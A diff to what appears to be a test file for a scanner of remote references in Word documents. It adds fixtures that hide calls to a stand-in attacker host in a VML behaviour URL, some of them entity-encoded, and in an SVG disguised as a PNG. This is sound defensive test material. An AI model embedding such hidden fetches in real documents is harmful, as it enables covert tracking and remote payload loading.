@@ -284,6 +284,24 @@ TRICKS: dict[str, tuple[dict[str, bytes | Callable[[bytes], bytes]], list[str]]]
         },
         [f"an attached template ('http://{EVIL}/t.dotm')"],
     ),
+    "addresses from the same scheme, as entities and in a VML behaviour": (
+        header(
+            f"<w:p {NS}><w:r><w:pict><v:shape style='width:10pt;behavior:url(//{EVIL}/x.htc)' "
+            f"o:title='https&amp;colon;//{EVIL}/v'><v:fill o:title='//{EVIL}/share/f.png'/></v:shape>"
+            "</w:pict></w:r></w:p>"
+        ),
+        [],
+    ),
+    "an SVG that fetches, typed as a PNG": (
+        {
+            **header(picture("r:embed='rIdS'"), ("rIdS", "image", "media/h.png", False)),
+            "word/media/h.png": (
+                "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
+                f"<image xlink:href='http://{EVIL}/s.png'/></svg>"
+            ).encode(),
+        },
+        [],
+    ),
     "a linked picture typed as a hyperlink": (
         header(picture("r:link='rIdL'"), ("rIdL", "hyperlink", f"http://{EVIL}/l.png", True)),
         [f"a hyperlink to 'http://{EVIL}/l.png' in word/header1.xml"],
